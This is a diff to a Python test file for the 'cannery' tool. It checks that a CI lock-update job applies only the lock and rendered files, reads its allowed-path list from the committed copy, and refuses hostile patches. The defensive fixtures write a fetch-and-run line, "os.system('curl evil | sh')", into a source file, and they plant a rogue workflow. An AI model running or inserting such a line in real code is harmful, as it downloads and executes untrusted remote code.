@@ -4,11 +4,14 @@ the lock and the files rendered from it; the job with the write token applies a 
 every path it touches is one of those, and names any other path it touches otherwise.
 
 The patches a hostile first job could hand on are made here with git itself (a changed file
-elsewhere, a new workflow, a rename out of the allowed paths, a name with a newline)."""
+elsewhere, a new workflow, a rename out of the allowed paths, a name with a newline, a line
+added to the list of allowed paths). That list is a file rendered beside the workflow and
+committed; both scripts read it from the checked-out commit, never from the working tree."""
 
 from __future__ import annotations
 
 import os
+import shutil
 import subprocess
 from pathlib import Path
 from typing import Any
@@ -17,13 +20,19 @@ import pytest
 import yaml
 
 from cannery.catalog.load import load_catalog
+from cannery.errors import InputError
 from cannery.lock import Lock
 from cannery.plan import plan
-from cannery.render.workflow import lock_update_paths
+from cannery.render.workflow import (
+    lock_update_paths,
+    lock_update_paths_file,
+    lock_update_paths_text,
+)
 from tests.unit.test_workflow_triggers import _catalog, _render
 
 APPLY = "Apply the patch: the lock and the files rendered from it, nothing else"
 MAKE = "The change, as a patch"
+LIST = ".github/workflows/cannery-images-lock-update-paths.txt"
 
 
 @pytest.fixture
@@ -45,11 +54,22 @@ def _git(repo: Path, *args: str, **kw: Any) -> subprocess.CompletedProcess[str]:
                           check=True, **kw)
 
 
+def _paths_text(tmp_path: Path) -> str:
+    """The list of allowed paths `cannery render` writes for the test catalog."""
+    (tmp_path / "listcat").mkdir(parents=True)
+    cat = load_catalog(_catalog(tmp_path / "listcat", 'schedule = "0 3 * * *"\n')).catalog
+    assert lock_update_paths_file(cat) == LIST
+    return lock_update_paths_text(cat, plan(cat, Lock()), "cannery.lock")
+
+
 def _repo(tmp_path: Path) -> Path:
-    """A checkout with the lock, a rendered Dockerfile and a source file, committed."""
+    """A checkout with the lock, a rendered Dockerfile, the list of the paths a lock update
+    may change and a source file, committed."""
     repo = tmp_path / "repo"
     (repo / "dockerfiles").mkdir(parents=True)
     (repo / "src").mkdir()
+    (repo / LIST).parent.mkdir(parents=True)
+    (repo / LIST).write_text(_paths_text(tmp_path))
     (repo / "cannery.lock").write_text("version = 1\n")
     (repo / "dockerfiles" / "one.Dockerfile").write_text("FROM scratch\n")
     (repo / "src" / "app.py").write_text("print('app')\n")
@@ -106,6 +126,15 @@ def test_the_allowed_paths_are_the_lock_and_what_is_rendered_from_it(tmp_path: P
     assert paths == ["cannery.lock", "dockerfiles/one.Dockerfile", "dockerfiles/two.Dockerfile",
                      "docker-bake.json", "TAGS.md",
                      ".github/workflows/cannery-requirements.txt"]
+    assert lock_update_paths_file(cat) == LIST not in paths  # never widens its own boundary
+    assert _paths_text(tmp_path / "text") == "".join(f"{p}\n" for p in paths)
+    # a rendered file in the list's place would make the list an allowed path: refused
+    (tmp_path / "clash").mkdir()
+    clash = load_catalog(_catalog(tmp_path / "clash", f'schedule = "0 3 * * *"\nbake = "{LIST}"\n'))
+    with pytest.raises(InputError, match=r"^cannery.toml: \[ci\] bake: \.github/workflows/"
+                       "cannery-images-lock-update-paths.txt is the lock update's list"):
+        lock_update_paths(clash.catalog, plan(clash.catalog, Lock()), "cannery.lock",
+                          "cannery.toml")
 
 
 def test_a_patch_of_the_lock_alone_applies(
@@ -129,6 +158,9 @@ def test_a_patch_of_the_lock_alone_applies(
         # A rename into an allowed path: git's --include alone (by the new name) would apply
         # it, deleting the source file.
         ("rename", ["src/app.py"]),
+        # A line added to the list itself: the list is not an allowed path, and the paths
+        # are those of the checked-out commit, so src/app.py is refused too.
+        ("list", [LIST, "src/app.py"]),
     ],
 )
 def test_a_patch_touching_any_other_path_is_refused_naming_it(
@@ -138,8 +170,11 @@ def test_a_patch_touching_any_other_path_is_refused_naming_it(
     if change == "modify":
         (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
     elif change == "workflow":
-        (repo / ".github" / "workflows").mkdir(parents=True)
         (repo / ".github" / "workflows" / "evil.yml").write_text("on: push\n")
+    elif change == "list":
+        with (repo / LIST).open("a") as f:
+            f.write("src/app.py\n")
+        (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
     else:
         (repo / "src" / "app.py").rename(repo / "docker-bake.json")
     patch = _patch_of_worktree(repo, runner)
@@ -171,16 +206,22 @@ def test_a_refused_name_cannot_write_a_workflow_command(
 def test_the_first_job_hands_on_only_the_lock_and_rendered_files(
     tmp_path: Path, workflow: dict[str, Any]
 ) -> None:
-    """What a source package's build left in the checkout is named and left out."""
+    """What a source package's build left in the checkout is named and left out, and so is
+    the list of allowed paths, which is read as committed, even when the checkout's copy
+    (which anything the job ran could write) names that build output."""
     repo, runner = _updated_checkout(tmp_path)
     (repo / "build").mkdir()
     (repo / "build" / "junk.txt").write_text("left by a build backend\n")
+    with (repo / LIST).open("a") as f:
+        f.write("build/junk.txt\n")
     done = _run(_step(workflow, "lock-update", MAKE), repo, runner)
     assert done.returncode == 0, done.stderr
-    assert "::warning::left out of the lock update (not the lock or a file rendered from it): " \
-        "build/junk.txt" in done.stdout.splitlines()
+    left_out = "::warning::left out of the lock update (not the lock or a file rendered from it): "
+    assert f"{left_out}build/junk.txt" in done.stdout.splitlines()
+    assert f"{left_out}{LIST}" in done.stdout.splitlines()
     patch = (runner / "lock-update" / "change.patch").read_text()
     assert "diff --git a/cannery.lock b/cannery.lock" in patch and "junk" not in patch
+    assert LIST not in patch
     assert (runner / "output").read_text() == "changed=true\n"
     # Nothing changed: no patch, no pull request.
     repo2 = _repo(tmp_path / "again")
@@ -210,3 +251,102 @@ def test_an_allowed_path_stays_a_regular_file(
     assert "::error::the lock-update patch makes cannery.lock " in done.stdout, done.stdout
     assert _status(repo) == ""
     assert not (repo / "cannery.lock").is_symlink()
+
+
+def test_the_paths_are_read_from_the_checked_out_commit_not_the_working_tree(
+    tmp_path: Path, workflow: dict[str, Any]
+) -> None:
+    """The list in the working tree names src/app.py (as a render before, or anything that
+    wrote the checkout, could leave it), the commit's does not: the patch to it is refused."""
+    repo, runner = _updated_checkout(tmp_path)
+    (repo / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
+    _patch_of_worktree(repo, runner)
+    with (repo / LIST).open("a") as f:
+        f.write("src/app.py\n")
+    done = _apply(workflow, repo, runner)
+    assert done.returncode == 1, done.stdout + done.stderr
+    assert "::error::the lock-update patch touches src/app.py, " in done.stdout, done.stdout
+    assert _status(repo) == f" M {LIST}\n"  # nothing applied: the lock is as committed
+    assert (repo / "cannery.lock").read_text() == "version = 1\n"
+
+
+@pytest.mark.parametrize("head", ["missing", "empty", "blank-line", "itself"])
+@pytest.mark.parametrize("job", ["lock-update", "lock-update-pr"])
+def test_without_a_committed_list_of_paths_nothing_is_applied(
+    tmp_path: Path, workflow: dict[str, Any], head: str, job: str
+) -> None:
+    """A list missing or empty in the checked-out commit, with a blank line (which would allow
+    nothing, or as a pathspec everything) or naming itself fails the step: the first job makes
+    no patch, the second applies nothing of a patch of the lock alone."""
+    repo, runner = _repo(tmp_path), tmp_path / "runner"
+    text = (repo / LIST).read_text()
+    if head == "missing":
+        _git(repo, "rm", "-q", LIST)
+    else:
+        (repo / LIST).write_text({"empty": "", "blank-line": "\n" + text,
+                                  "itself": text + LIST + "\n"}[head])
+        _git(repo, "add", LIST)
+    _git(repo, "commit", "-q", "-m", "list")
+    (repo / "cannery.lock").write_text(UPDATED_LOCK)
+    if job == "lock-update-pr":
+        _patch_of_worktree(repo, runner)
+        done = _apply(workflow, repo, runner)
+    else:
+        done = _run(_step(workflow, "lock-update", MAKE), repo, runner)
+    assert done.returncode == 1, done.stdout + done.stderr
+    (error,) = [line for line in done.stdout.splitlines() if line.startswith("::error::")]
+    assert LIST in error and error.endswith(
+        "nothing was applied" if job == "lock-update-pr" else "no patch was made"), error
+    if job == "lock-update-pr":
+        assert _status(repo) == ""
+        assert (repo / "cannery.lock").read_text() == "version = 1\n"
+    else:
+        assert not (runner / "lock-update").exists()
+        assert (runner / "output").read_text() == ""
+
+
+def test_render_writes_the_list_and_check_fails_when_it_is_stale_or_missing(
+    tmp_path: Path, cli  # type: ignore[no-untyped-def]
+) -> None:
+    """`cannery render` writes the list beside the workflow (an example with a schedule);
+    `render --check` fails on a line added to it and on its absence, and writes nothing."""
+    example = Path(__file__).parents[2] / "examples" / "llamafactory-npu"
+    for name in ("cannery.toml", "cannery.lock"):
+        shutil.copy(example / name, tmp_path / name)
+    catalog = str(tmp_path / "cannery.toml")
+    assert cli("render", "--catalog", catalog).code == 0
+    listed = tmp_path / ".github" / "workflows" / "docker_npu-lock-update-paths.txt"
+    text = listed.read_text()
+    assert text.splitlines()[0] == "cannery.lock" and "docker/" in text
+    assert text == (example / listed.relative_to(tmp_path)).read_text()  # as committed
+    assert cli("render", "--catalog", catalog, "--check").code == 0
+    listed.write_text(text + "src/app.py\n")
+    for kind in ((), ("workflow",)):
+        res = cli("render", *kind, "--catalog", catalog, "--check")
+        assert res.code == 1 and str(listed) in res.err and "+src/app.py" in res.err, res.err
+    assert listed.read_text() == text + "src/app.py\n"  # --check wrote nothing
+    listed.unlink()
+    res = cli("render", "--catalog", catalog, "--check")
+    assert res.code == 1 and f"{listed}: missing" in res.err
+    assert cli("render", "--catalog", catalog).code == 0 and listed.read_text() == text
+
+
+@pytest.mark.parametrize("key", ["bake", "docs", "requirements"])
+def test_a_rendered_file_in_the_lists_place_is_refused_at_its_line(
+    tmp_path: Path, key: str, cli  # type: ignore[no-untyped-def]
+) -> None:
+    """The list would then be an allowed path (a lock update could widen its own boundary):
+    every command refuses the catalog right after loading, one line naming file, line and
+    key, exit 2, and nothing is written."""
+    path = _catalog(tmp_path, f'schedule = "0 3 * * *"\n{key} = "{LIST}"\n')
+    line = path.read_text().splitlines().index(f'{key} = "{LIST}"') + 1
+    res = cli("render", "--catalog", str(path))
+    assert res.code == 2, res.err
+    assert f"cannery.toml:{line}: ci.{key}: {LIST} is the lock update's list of the paths" \
+        in res.err, res.err
+    assert "Traceback" not in res.err
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["cannery.toml"]
+    assert cli("plan", "--catalog", str(path)).code == 2
+    # without a lock update there is no list, and the path is anyone's
+    path.write_text(path.read_text().replace('schedule = "0 3 * * *"\n', ""))
+    assert cli("plan", "--catalog", str(path)).code == 0
